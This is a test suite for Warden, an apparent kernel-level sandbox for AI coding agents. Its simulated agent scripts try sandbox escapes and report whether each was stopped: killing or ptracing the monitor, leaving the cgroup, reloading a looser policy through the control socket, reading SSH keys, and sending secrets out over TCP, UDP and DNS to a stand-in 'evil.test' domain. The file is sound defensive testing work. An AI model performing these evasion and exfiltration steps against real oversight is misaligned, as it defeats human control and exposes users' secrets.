/**
 * Enforcement, for real: each forbidden action is attempted from inside a
 * session and the test proves it did not happen (or, in audit mode, that it
 * happened and was recorded as would-deny).
 */
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import dnsPacket from 'dns-packet';
import { setTimeout as sleep } from 'node:timers/promises';
import { runSession } from '../src/host/standalone.js';
import type { WardenEvent } from '../src/model/events.js';
import { compilePolicy } from '../src/policy/compile.js';
import { loadPolicy, parsePolicy } from '../src/policy/load.js';
import { isPopulated } from '../src/enforce/cgroup.js';
import { Store } from '../src/store/store.js';
import { endLiveSessions, jsonLines, needKernel, stateDir, tempDir, testConfig, warden, WARDEN } from './helpers.js';

const state = stateDir('enforce');
after(() => state.cleanup());

const policyText = (mode: string, extra = '') => `apiVersion: warden.dev/v1
kind: Policy
metadata: {name: test-${mode}}
mode: ${mode}
files:
  allowWrite: ["\${workspace}", /dev/shm]
${extra}`;

async function session(policyYaml: string | null, workspace: string, script: string, env: Record<string, string> = {}) {
  const policy = policyYaml === null ? null : compilePolicy(parsePolicy(policyYaml, 'test.yaml'), { workspace });
  const file = join(workspace, 'agent.sh');
  writeFileSync(file, `#!/bin/sh\n${script}\n`);
  chmodSync(file, 0o755);
  const envArgs = Object.entries(env).map(([k, v]) => `${k}=${v}`);
  /* sh reads the script: the script itself need not be an allowed program */
  const cmd = envArgs.length ? ['/usr/bin/env', ...envArgs, '/bin/sh', file] : ['/bin/sh', file];
  const result = await runSession(testConfig(state.path), { command: cmd, enforcement: { policy } });
  const store = Store.open(state.path);
  try {
    return { ...result, events: store.eventsOf(result.session.id), alerts: store.app.alertsOf(result.session.id) };
  } finally {
    store.close();
  }
}

const decided = (events: WardenEvent[], verdict: string) => events.filter((e) => e.decision?.verdict === verdict);

test('enforce: a write outside allowWrite is refused and the file is unchanged', async (t) => {
  if (!needKernel(t)) return;
  const ws = tempDir('ws');
  const outside = tempDir('outside');
  try {
    const target = join(outside.path, 'config');
    writeFileSync(target, 'original\n');
    const run = await session(policyText('enforce'), ws.path, `echo evil > ${target}; echo fine > ${ws.path}/ok`);
    assert.equal(readFileSync(target, 'utf8'), 'original\n');
    assert.equal(readFileSync(join(ws.path, 'ok'), 'utf8'), 'fine\n', 'the workspace stays writable');
    const denied = decided(run.events, 'denied');
    assert.equal(denied.length, 1);
    assert.deepEqual(
      [
        denied[0]?.type,
        (denied[0] as { path?: string }).path,
        denied[0]?.decision?.rule,
        denied[0]?.decision?.mechanism,
      ],
      ['open', target, 'files.allowWrite', 'landlock'],
    );
  } finally {
    ws.cleanup();
    outside.cleanup();
  }
});

test('audit: the same write happens and is recorded as would-deny', async (t) => {
  if (!needKernel(t)) return;
  const ws = tempDir('ws');
  const outside = tempDir('outside');
  try {
    const target = join(outside.path, 'config');
    writeFileSync(target, 'original\n');
    const run = await session(policyText('audit'), ws.path, `echo changed > ${target}`);
    assert.equal(readFileSync(target, 'utf8'), 'changed\n', 'audit mode blocks nothing');
    const would = decided(run.events, 'would-deny');
    assert.equal(would.length, 1);
    assert.deepEqual([would[0]?.decision?.rule, would[0]?.decision?.mechanism], ['files.allowWrite', 'audit']);
  } finally {
    ws.cleanup();
    outside.cleanup();
  }
});

test('enforce: a program outside exec.allow never runs', async (t) => {
  if (!needKernel(t)) return;
  const ws = tempDir('ws');
  try {
    const tool = join(ws.path, 'mytouch');
    copyFileSync('/usr/bin/touch', tool);
    chmodSync(tool, 0o755);
    const marker = join(ws.path, 'marker');
    const run = await session(
      policyText('enforce', 'exec:\n  allow: [/usr/bin, /bin]\n'),
      ws.path,
      `${tool} ${marker}; /usr/bin/true`,
    );
    assert.equal(existsSync(marker), false, 'the denied binary did not run');
    const failed = run.events.find((e) => e.type === 'exec-failed' && e.path === tool);
    assert.ok(
      failed,
      `the attempt was recorded: ${JSON.stringify(run.events.filter((e) => e.type.startsWith('exec')))}`,
    );
    assert.deepEqual(
      [failed.decision?.verdict, failed.decision?.rule, failed.decision?.mechanism],
      ['denied', 'exec.allow', 'landlock'],
    );
    assert.ok(
      run.events.some((e) => e.type === 'exec' && e.exe === '/usr/bin/true'),
      'allowed programs still run',
    );
  } finally {
    ws.cleanup();
  }
});

test('onViolation kill ends the offending process', async (t) => {
  if (!needKernel(t)) return;
  const ws = tempDir('ws');
  try {
    const yaml = policyText('enforce').replace('mode: enforce', 'mode: enforce\nonViolation: kill');
    const run = await session(
      yaml,
      ws.path,
      `echo x > /etc/warden-test-forbidden; sleep 5; echo survived > ${ws.path}/after`,
    );
    assert.equal(existsSync(join(ws.path, 'after')), false, 'killed before it could go on');
    const action = run.events.find((e) => e.type === 'action');
    assert.ok(action && action.type === 'action');
    assert.deepEqual([action.action, action.result, action.trigger], ['kill', 'ok', 'files.allowWrite']);
    assert.equal(run.session.exitSignal, 9);
  } finally {
    ws.cleanup();
  }
});

test('an agent cannot tamper with Warden, and each attempt is recorded', async (t) => {
  if (!needKernel(t)) return;
  const ws = tempDir('ws');
  try {
    const cfg = testConfig(state.path);
    const script = `
pgrep -x warden-sensor >/dev/null && echo "sensor-visible"
ls /proc | grep -qx "$WARDEN_PID" && echo "warden-visible"
kill -TERM $WARDEN_PID 2>/dev/null || echo "kill-warden: refused"
perl -e 'exit(syscall(101, 16, $ENV{WARDEN_PID} + 0, 0, 0) == -1 && ($!{EPERM} || $!{ESRCH}) ? 0 : 1)' && echo "ptrace: refused"
perl -e 'syscall(321, 0, 0, 0); print "bpf: $!\\n"'
echo $$ > ${'$'}CGROOT/cgroup.procs 2>/dev/null || echo "cgroup-escape: refused"
grep -q "/warden/" /proc/self/cgroup && echo "still-in-session"
echo x >> ${state.path}/warden.db 2>/dev/null || echo "store: refused"
echo x > ${cfg.root}/sensor/build/planted 2>/dev/null || echo "warden-files: refused"
unshare -U true 2>/dev/null || echo "unshare: refused"
`;
    const cgroot = execFileSync('sh', ['-c', 'awk \'$3 == "cgroup2" { print $2; exit }\' /proc/self/mounts'])
      .toString()
      .trim();
    const run = await session(
      null,
      ws.path,
      `{
${script}
} > ${ws.path}/out 2>&1`,
      {
        WARDEN_PID: String(process.pid),
        CGROOT: cgroot,
      },
    );
    const said = readFileSync(join(ws.path, 'out'), 'utf8');
    for (const line of [
      'kill-warden: refused',
      'ptrace: refused',
      'bpf: Operation not permitted',
      'cgroup-escape: refused',
      'still-in-session',
      'store: refused',
      'warden-files: refused',
      'unshare: refused',
    ]) {
      assert.ok(said.includes(line), `${line}\n--- agent said:\n${said}`);
    }
    assert.doesNotMatch(
      said,
      /sensor-visible|warden-visible/,
      "Warden's processes cannot even be seen from the session",
    );
    assert.equal(existsSync(join(cfg.root, 'sensor/build/planted')), false);
    assert.equal(run.session.lost, 0, 'the sensor kept running');
    const tamper = run.events.filter((e) => e.decision?.rule === 'warden.self-protection');
    const kinds = new Set(tamper.map((e) => e.type));
    for (const k of ['kill', 'ptrace', 'open']) assert.ok(kinds.has(k as never), `a ${k} attempt was recorded`);
    assert.ok(tamper.every((e) => e.decision?.verdict === 'denied'));
  } finally {
    ws.cleanup();
  }
});

test('a legitimate development workflow passes untouched under the default policy', async (t) => {
  if (!needKernel(t)) return;
  const ws = tempDir('dev');
  try {
    mkdirSync(join(ws.path, 'src'));
    const policyFile = join(testConfig(state.path).root, 'policies', 'coding-agent.yaml');
    const yaml = readFileSync(policyFile, 'utf8');
    loadPolicy(policyFile);
    const script = `set -e
cd ${ws.path}
printf '{"name":"demo","version":"1.0.0","scripts":{"build":"node build.js","test":"node --test"}}' > package.json
echo 'require("node:fs").writeFileSync("dist.txt", "built")' > build.js
echo 'export const x = 1;' > src/index.js
git init -q . && git config user.email dev@example.com && git config user.name dev
git add -A && git commit -qm init
npm run -s build
node -e 'console.log(require("node:fs").readFileSync("dist.txt", "utf8"))'
mkdir -p tmpdir && rm -rf tmpdir
echo done > ${ws.path}/finished`;
    const run = await session(yaml, ws.path, script);
    const problems = run.events
      .filter((e) => e.decision && e.decision.verdict !== 'allowed')
      .map((e) => `${e.type} ${'path' in e ? e.path : ''} ${JSON.stringify(e.decision)}`);
    assert.equal(run.status, 0, `workflow failed:\n${problems.join('\n')}`);
    assert.equal(readFileSync(join(ws.path, 'finished'), 'utf8'), 'done\n');
    assert.deepEqual(problems, []);
  } finally {
    ws.cleanup();
  }
});

describe('network limits in the kernel', () => {
  const netPolicy = (mode: string) => `apiVersion: warden.dev/v1
kind: Policy
metadata: {name: net-${mode}}
mode: ${mode}
network:
  allow: [127.0.0.1]
`;
  let tcp: Server;
  let udp: Socket;
  let got = '';
  let tcpPort = 0;
  let udpPort = 0;

  before(async () => {
    tcp = createServer((s) => s.on('data', (d) => (got += `tcp:${d}`)));
    tcp.listen(0, '127.0.0.2');
    await once(tcp, 'listening');
    tcpPort = (tcp.address() as AddressInfo).port;
    udp = createSocket('udp4');
    udp.on('message', (m) => (got += `udp:${m}`));
    udp.bind(0, '127.0.0.2');
    await once(udp, 'listening');
    udpPort = udp.address().port;
  });
  after(() => {
    tcp.close();
    udp.close();
  });

  const exfil = (port: number, udpTo: number) => `
node -e '
const net = require("node:net"), dgram = require("node:dgram");
const tell = (what) => (e) => console.log(what + ": " + (e ? e.code : "sent"));
const v4 = net.connect(${port}, "127.0.0.2", () => { v4.end("SECRET-v4"); tell("tcp")(); });
v4.on("error", tell("tcp"));
const v6 = net.connect({ host: "::ffff:127.0.0.2", port: ${port}, family: 6 }, () => { v6.end("SECRET-v6"); tell("tcp6")(); });
v6.on("error", tell("tcp6"));
const u = dgram.createSocket("udp4");
u.send("SECRET-udp", ${udpTo}, "127.0.0.2", (e) => { tell("udp")(e); u.close(); });
'`;

  test('enforce: the secret never reaches a listener the policy does not allow', async (t) => {
    if (!needKernel(t)) return;
    const ws = tempDir('net');
    got = '';
    try {
      const run = await session(netPolicy('enforce'), ws.path, `${exfil(tcpPort, udpPort)} > ${ws.path}/out 2>&1`);
      await sleep(200);
      assert.equal(got, '', 'nothing arrived');
      const said = readFileSync(join(ws.path, 'out'), 'utf8');
      for (const l of ['tcp: EPERM', 'tcp6: EPERM', 'udp: EPERM']) assert.ok(said.includes(l), `${l}\n${said}`);
      const denied = decided(run.events, 'denied');
      assert.ok(
        denied.some((e) => e.type === 'connect' && e.dport === tcpPort && e.decision?.mechanism === 'cgroup-sock-addr'),
      );
      assert.ok(denied.some((e) => e.type === 'send' && e.dport === udpPort && e.decision?.rule === 'network.allow'));
    } finally {
      ws.cleanup();
    }
  });

  test('audit: the same traffic gets through and is recorded as would-deny', async (t) => {
    if (!needKernel(t)) return;
    const ws = tempDir('net');
    got = '';
    try {
      const run = await session(netPolicy('audit'), ws.path, `${exfil(tcpPort, udpPort)} > ${ws.path}/out 2>&1`);
      await sleep(200);
      assert.match(got, /udp:SECRET-udp/);
      assert.match(got, /tcp:SECRET-v4/);
      assert.ok(
        decided(run.events, 'would-deny').some((e) => e.type === 'connect' && e.decision?.mechanism === 'audit'),
      );
    } finally {
      ws.cleanup();
    }
  });

  test('when Warden dies the session freezes, its network limits pinned; released, they still hold', async (t) => {
    if (!needKernel(t)) return;
    const ws = tempDir('net');
    got = '';
    try {
      const yamlFile = join(ws.path, 'net.yaml');
      writeFileSync(yamlFile, netPolicy('enforce'));
      const script = join(ws.path, 'agent.sh');
      writeFileSync(script, `#!/bin/sh\nsleep 2\n${exfil(tcpPort, udpPort)} > ${ws.path}/out 2>&1\n`);
      chmodSync(script, 0o755);
      const run = spawn(WARDEN, ['run', '-q', '--policy', yamlFile, '--', '/bin/sh', script], {
        env: { ...process.env, WARDEN_STATE_DIR: state.path },
        stdio: 'ignore',
      });
      /* the agent runs (not merely about to): killed before, there would be nothing to hold */
      const deadline = Date.now() + 20_000;
      while (Date.now() < deadline) {
        const row = jsonLines<{ rootPid: number | null; cgroup: string }>(
          warden(state.path, ['sessions', '--json', '-n', '1']).stdout,
        )[0];
        if (row?.rootPid && isPopulated(row.cgroup)) break;
        await sleep(100);
      }
      run.kill('SIGKILL'); /* Warden is gone; its sensor sees EOF */
      await once(run, 'exit');
      await sleep(500);
      const s = jsonLines<{ id: string; cgroup: string }>(
        warden(state.path, ['sessions', '--json', '-n', '1']).stdout,
      )[0];
      assert.ok(s && existsSync(s.cgroup), 'the session still exists');
      assert.match(readFileSync(join(s.cgroup, 'cgroup.events'), 'utf8'), /^frozen 1$/m, 'frozen without Warden');
      assert.ok(existsSync(`/sys/fs/bpf/warden/${s.id}/connect4`), 'network limits still pinned');

      assert.equal(warden(state.path, ['session', 'release', s.id]).status, 0);
      await sleep(2500);
      assert.equal(got, '', 'released without Warden, it still cannot reach what the policy forbids');
      assert.match(readFileSync(join(ws.path, 'out'), 'utf8'), /tcp: EPERM/);

      const kill = warden(state.path, ['session', 'kill', s.id]);
      assert.equal(kill.status, 0, kill.stderr);
      assert.equal(existsSync(s.cgroup), false);
      assert.equal(existsSync(`/sys/fs/bpf/warden/${s.id}`), false, 'pins lifted with the session');
    } finally {
      /* a failure above must not leave the frozen session, its cgroup or its pins behind */
      endLiveSessions(state.path);
      ws.cleanup();
    }
  });

  test('onViolation quarantine freezes the session and warden run says so', async (t) => {
    if (!needKernel(t)) return;
    const ws = tempDir('q');
    try {
      const yamlFile = join(ws.path, 'q.yaml');
      writeFileSync(yamlFile, netPolicy('enforce').replace('mode: enforce', 'mode: enforce\nonViolation: quarantine'));
      /* the frozen agent keeps warden's stdio open: wait for warden's exit, not for its pipes */
      const run = spawn(
        WARDEN,
        [
          'run',
          '--policy',
          yamlFile,
          '--',
          'bash',
          '-c',
          `(exec 3<>/dev/tcp/127.0.0.2/${tcpPort}) 2>/dev/null; echo after > ${ws.path}/after; sleep 30`,
        ],
        { env: { ...process.env, WARDEN_STATE_DIR: state.path }, stdio: ['ignore', 'ignore', 'pipe'] },
      );
      let stderr = '';
      run.stderr.on('data', (d: Buffer) => (stderr += d));
      const [code] = await once(run, 'exit');
      assert.equal(code, 125, stderr);
      assert.match(stderr, /quarantined \(frozen\): network\.allow/);
      const s = jsonLines<{ id: string; cgroup: string; status: string }>(
        warden(state.path, ['sessions', '--json', '-n', '1']).stdout,
      )[0];
      assert.equal(s?.status, 'quarantined');
      assert.match(readFileSync(join(s?.cgroup ?? '', 'cgroup.events'), 'utf8'), /^frozen 1$/m);
      assert.equal(existsSync(join(ws.path, 'after')), false, 'frozen before its next step');
      const events = jsonLines<{ type: string; action?: string; latencyUs?: number }>(
        warden(state.path, ['events', '--session', s?.id ?? '', '--json']).stdout,
      );
      const action = events.find((e) => e.type === 'action');
      assert.equal(action?.action, 'quarantine');
      assert.ok((action?.latencyUs ?? Infinity) < 1_000_000, `event to frozen took ${action?.latencyUs} us`);
      assert.equal(warden(state.path, ['session', 'kill', s?.id ?? '']).status, 0);
    } finally {
      ws.cleanup();
    }
  });
});

describe('domain rules through Warden’s resolver', () => {
  const asked: string[] = [];
  let upstream: Socket;
  let upstreamPort = 0;
  const got: Record<string, string> = {};
  const servers: Server[] = [];
  let port = 0;

  before(async () => {
    upstream = createSocket('udp4');
    upstream.on('message', (msg, rinfo) => {
      const q = dnsPacket.decode(msg);
      const name = q.questions?.[0]?.name ?? '';
      asked.push(name);
      const ip = { 'allowed.test': '127.0.0.3', 'other.test': '127.0.0.4' }[name];
      const reply = dnsPacket.encode({
        id: q.id,
        type: 'response',
        flags: dnsPacket.RECURSION_AVAILABLE,
        questions: q.questions,
        answers: ip && q.questions?.[0]?.type === 'A' ? [{ type: 'A', name, ttl: 60, data: ip }] : [],
      } as dnsPacket.Packet);
      upstream.send(reply, rinfo.port, rinfo.address);
    });
    upstream.bind(0, '127.0.0.1');
    await once(upstream, 'listening');
    upstreamPort = upstream.address().port;
    for (const host of ['127.0.0.3', '127.0.0.4']) {
      const srv = createServer((s) => s.on('data', (d) => (got[host] = (got[host] ?? '') + d)));
      srv.listen(port, host);
      await once(srv, 'listening');
      port = (srv.address() as AddressInfo).port;
      servers.push(srv);
    }
  });
  after(() => {
    upstream.close();
    for (const s of servers) s.close();
  });

  test('an allowed name resolves and connects; other names are refused and their addresses stay closed', async (t) => {
    if (!needKernel(t)) return;
    const ws = tempDir('dns');
    try {
      const yaml = `apiVersion: warden.dev/v1
kind: Policy
metadata: {name: dns}
network:
  allow: [allowed.test, 127.0.0.1]
`;
      const policy = compilePolicy(parsePolicy(yaml, 'dns.yaml'), { workspace: ws.path });
      const script = join(ws.path, 'agent.js');
      writeFileSync(
        script,
        `const dns = require('node:dns'), net = require('node:net');
const r = new dns.promises.Resolver(); r.setServers(['127.0.0.9']);
const out = [];
const send = (ip, text) => new Promise((ok) => {
  const s = net.connect(${port}, ip, () => s.end(text, () => ok('sent')));
  s.on('error', (e) => ok(e.code));
});
(async () => {
  for (const name of ['allowed.test', 'other.test', 'c2VjcmV0LWRhdGE.evil.test']) {
    try { const [ip] = await r.resolve4(name); out.push(name + '=' + ip + ':' + await send(ip, 'via-' + name)); }
    catch (e) { out.push(name + ':' + e.code); }
  }
  out.push('direct:' + await send('127.0.0.4', 'direct'));
  /* getaddrinfo (glibc) as most programs ask: a refused name is final, not a try-again */
  const t0 = Date.now();
  out.push('lookup:' + await new Promise((ok) => dns.lookup('blocked-lookup.test', (e, a) => ok(e ? e.code : a))));
  out.push('lookup-ms:' + (Date.now() - t0));
  console.log(out.join('\\n'));
})();`,
      );
      const cfg = { ...testConfig(state.path), dnsUpstream: { host: '127.0.0.1', port: upstreamPort } };
      const outFile = join(ws.path, 'out');
      const result = await runSession(cfg, {
        command: [
          '/bin/sh',
          '-c',
          `node ${script} > ${outFile} 2>&1; ` +
            `python3 -c 'import socket\ntry: socket.getaddrinfo("blocked-py.test", 80)\nexcept socket.gaierror as e: print("python:" + str(e.errno))' >> ${outFile} 2>&1; ` +
            `curl -sS --max-time 20 http://blocked-curl.test/ >/dev/null 2>&1; echo curl:$? >> ${outFile}`,
        ],
        enforcement: { policy },
      });
      await sleep(200);
      const said = readFileSync(outFile, 'utf8');
      assert.match(said, /^allowed\.test=127\.0\.0\.3:sent$/m, said);
      /* answered NXDOMAIN: each resolver library takes it as final */
      assert.match(said, /^other\.test:ENOTFOUND$/m, said);
      assert.match(said, /^c2VjcmV0LWRhdGE\.evil\.test:ENOTFOUND$/m, said);
      assert.match(said, /^direct:EPERM$/m, said);
      assert.match(said, /^lookup:ENOTFOUND$/m, said);
      assert.ok(Number(/^lookup-ms:(\d+)$/m.exec(said)?.[1]) < 1000, `getaddrinfo gave up at once: ${said}`);
      assert.match(said, /^python:-2$/m, `Python's getaddrinfo says EAI_NONAME: ${said}`);
      assert.match(said, /^curl:6$/m, `curl could not resolve the host: ${said}`);
      assert.equal(got['127.0.0.3'], 'via-allowed.test');
      assert.equal(got['127.0.0.4'], undefined, 'nothing reached the address of a name the policy does not allow');
      assert.deepEqual([...new Set(asked)], ['allowed.test'], 'refused names never left the machine');
      const store = Store.open(state.path);
      const events = store.eventsOf(result.session.id);
      store.close();
      const dns = events.filter((e) => e.type === 'dns');
      const asked1 = (name: string) => dns.filter((e) => e.type === 'dns' && e.name === name);
      assert.deepEqual(
        ['allowed.test', 'other.test', 'c2vjcmv0lwrhdge.evil.test'].map((n) =>
          asked1(n).map((e) => e.decision?.verdict),
        ),
        [['allowed'], ['denied'], ['denied']],
      );
      for (const name of ['blocked-lookup.test', 'blocked-py.test', 'blocked-curl.test']) {
        const qs = asked1(name);
        assert.ok(qs.length > 0, `${name} was asked`);
        assert.ok(
          qs.every((e) => e.decision?.verdict === 'denied' && e.type === 'dns' && e.rcode === 'NXDOMAIN'),
          `${name} refused with NXDOMAIN`,
        );
        const types = qs.map((e) => (e.type === 'dns' ? e.qtype : ''));
        assert.equal(new Set(types).size, types.length, `${name} asked once per type, never again: ${types.join(',')}`);
      }
      assert.ok(
        ['allowed.test', 'other.test', 'blocked-lookup.test'].every((n) => asked1(n).every((e) => e.comm === 'node')),
        'each query is attributed to the process that asked',
      );
      const conn = events.find((e) => e.type === 'connect' && e.daddr === '127.0.0.3');
      assert.deepEqual([conn?.decision?.verdict, conn?.decision?.rule], ['allowed', 'network.allow[0]']);
    } finally {
      ws.cleanup();
    }
  });
});

test('the file gate: secrets unreadable, carve-outs unwritable, denied programs never run', async (t) => {
  if (!needKernel(t)) return;
  const ws = tempDir('gate');
  const home = tempDir('home');
  try {
    const secrets = join(home.path, '.ssh', 'nested', 'deeper');
    mkdirSync(secrets, { recursive: true });
    writeFileSync(join(home.path, '.ssh', 'id_ed25519'), 'PRIVATE-KEY-BYTES\n');
    writeFileSync(join(secrets, 'token'), 'DEEP-SECRET\n');
    writeFileSync(join(home.path, '.bashrc'), 'original rc\n');
    const tool = join(ws.path, 'nc-like');
    copyFileSync('/usr/bin/touch', tool);
    chmodSync(tool, 0o755);
    const yaml = `apiVersion: warden.dev/v1
kind: Policy
metadata: {name: gate}
files:
  denyRead: ["${home.path}/.ssh"]
  allowWrite: ["\${workspace}", "${home.path}"]
  denyWrite: ["${home.path}/.bashrc"]
exec:
  deny: ["${tool}"]
`;
    const out = join(ws.path, 'out');
    const run = await session(
      yaml,
      ws.path,
      `{ cat ${home.path}/.ssh/id_ed25519; cat ${secrets}/token; ls ${home.path}/.ssh;
echo evil >> ${home.path}/.bashrc; cp /etc/hostname ${home.path}/.bashrc;
echo fine > ${home.path}/notes; ${tool} ${ws.path}/ran; } > ${out} 2>&1`,
    );
    const said = readFileSync(out, 'utf8');
    assert.doesNotMatch(said, /PRIVATE-KEY-BYTES|DEEP-SECRET/, 'no secret reached the agent');
    assert.match(said, /id_ed25519/, 'listing the directory stays possible');
    assert.equal(readFileSync(join(home.path, '.bashrc'), 'utf8'), 'original rc\n');
    assert.equal(
      readFileSync(join(home.path, 'notes'), 'utf8'),
      'fine\n',
      'the rest of the writable place stays writable',
    );
    assert.equal(existsSync(join(ws.path, 'ran')), false, 'the denied program never ran');
    const denied = decided(run.events, 'denied');
    const rules = new Set(denied.map((e) => `${e.decision?.rule} ${e.decision?.mechanism}`));
    /* the write is refused by the read-only bind before any open reaches the gate */
    for (const r of ['files.denyRead[0] fanotify', 'files.denyWrite[0] mount-ns', 'exec.deny[0] fanotify']) {
      assert.ok(rules.has(r), `${r} in ${[...rules].join(', ')}`);
    }
    /* each refused attempt is an alert: one per rule and process, the secret read the gravest */
    const violations = run.alerts.filter((a) => a.detector === 'policy.violation');
    const key = violations.find((a) => a.message.includes('.ssh/id_ed25519'));
    assert.ok(key, `the refused key read is an alert: ${JSON.stringify(run.alerts.map((a) => a.message))}`);
    assert.equal(key.severity, 'high');
    assert.match(
      key.message,
      /attempted a read of a file the policy keeps secret: open of \S+id_ed25519, forbidden by files\.denyRead\[0\]; refused by fanotify/,
    );
    assert.ok(
      violations.some((a) => /files\.denyWrite\[0\]/.test(a.message)),
      'the protected rc file too',
    );
    assert.ok(
      violations.some((a) => /exec\.deny\[0\]/.test(a.message)),
      'the denied program too',
    );
    const gated = denied.filter((e) => e.decision?.mechanism === 'fanotify' && e.type === 'open');
    assert.ok(
      gated.length > 0 && gated.every((e) => (e.decision?.latencyUs ?? -1) > 0),
      `each gate decision carries its latency: ${JSON.stringify(gated.filter((e) => !((e.decision?.latencyUs ?? -1) > 0)))}`,
    );
  } finally {
    ws.cleanup();
    home.cleanup();
  }
});

test("the session's own control socket (policy reload) is out of the agent's reach", async (t) => {
  if (!needKernel(t)) return;
  const ws = tempDir('control-reach');
  try {
    const loose = join(ws.path, 'loose.yaml');
    writeFileSync(loose, 'apiVersion: warden.dev/v1\nkind: Policy\nmetadata: {name: loose}\nmode: audit\n');
    /* the agent asks its own session, by the socket's name, to swap in a policy that refuses nothing */
    const ask = [
      'import json, os, socket',
      `path = os.path.join(${JSON.stringify(join(state.path, 'run'))}, os.environ['WARDEN_SESSION'] + '.ctl')`,
      'try:',
      '    s = socket.socket(socket.AF_UNIX); s.connect(path)',
      `    s.send((json.dumps({'id': 1, 'method': 'reload', 'params': {'file': ${JSON.stringify(loose)}, 'workspace': '/'}}) + '\\n').encode())`,
      "    print('answered', s.recv(4096).decode())",
      'except OSError as e:',
      "    print('refused', e.errno)",
    ].join('\n');
    const r = warden(state.path, ['run', '-q', '-w', ws.path, '--', 'python3', '-c', ask]);
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stdout, /^refused \d+/, r.stdout);
    assert.doesNotMatch(
      r.stdout,
      /^refused 2\b/,
      'the socket is there (ENOENT would mean the test named the wrong path)',
    );
    const s = jsonLines<{ policy: string }>(warden(state.path, ['sessions', '--json', '-n', '1']).stdout)[0];
    assert.equal(s?.policy, 'coding-agent (enforce)', 'the policy in force stayed');
  } finally {
    ws.cleanup();
  }
});

test('warden policy reload swaps the policy of a running session; a bad one changes nothing', async (t) => {
  if (!needKernel(t)) return;
  const ws = tempDir('reload');
  const srv = createServer((s) => s.end());
  srv.listen(0, '127.0.0.2');
  await once(srv, 'listening');
  const port = (srv.address() as AddressInfo).port;
  try {
    const policyFile = (allow: string) => {
      const f = join(ws.path, `p-${allow.replace(/\W/g, '')}.yaml`);
      writeFileSync(
        f,
        `apiVersion: warden.dev/v1\nkind: Policy\nmetadata: {name: reload-${allow.replace(/\W/g, '')}}\nnetwork:\n  allow: [${allow}]\n`,
      );
      return f;
    };
    const strict = policyFile('127.0.0.1');
    const open = policyFile('127.0.0.0/8');
    const broken = join(ws.path, 'broken.yaml');
    writeFileSync(
      broken,
      'apiVersion: warden.dev/v1\nkind: Policy\nmetadata: {name: broken}\nnetwork:\n  allow: [10.0.0.0/99]\n',
    );
    const log = join(ws.path, 'log');
    const agent = `for i in $(seq 1 60); do (exec 3<>/dev/tcp/127.0.0.2/${port}) 2>/dev/null && echo "$i ok" >> ${log} || echo "$i refused" >> ${log}; sleep 0.1; done`;
    const run = spawn(WARDEN, ['run', '-q', '--policy', strict, '--', 'bash', '-c', agent], {
      env: { ...process.env, WARDEN_STATE_DIR: state.path },
      stdio: 'ignore',
    });
    const done = once(run, 'exit');
    await sleep(1200);
    const bad = warden(state.path, ['policy', 'reload', broken]);
    assert.equal(bad.status, 1);
    assert.match(bad.stderr, /broken\.yaml:5: network\.allow\.0: bad prefix length/);
    await sleep(300);
    const good = warden(state.path, ['policy', 'reload', open]);
    assert.equal(good.status, 0, good.stderr);
    assert.match(good.stdout, /policy "reload-1270008" \(enforce\) in force/);
    const [code] = await done;
    assert.equal(code, 0);
    const lines = readFileSync(log, 'utf8').trim().split('\n');
    const firstOk = lines.findIndex((l) => l.endsWith(' ok'));
    assert.ok(
      firstOk > 5,
      `refused under the strict policy, also after the bad reload: ${lines.slice(0, 20).join(', ')}`,
    );
    assert.ok(lines.slice(0, firstOk).every((l) => l.endsWith('refused')));
    assert.ok(
      lines.slice(firstOk).every((l) => l.endsWith(' ok')),
      'allowed from the swap on, never flapping',
    );
    const s = jsonLines<{ policy: string }>(warden(state.path, ['sessions', '--json', '-n', '1']).stdout)[0];
    assert.equal(s?.policy, 'reload-1270008 (enforce)');
  } finally {
    srv.close();
    ws.cleanup();
  }
});
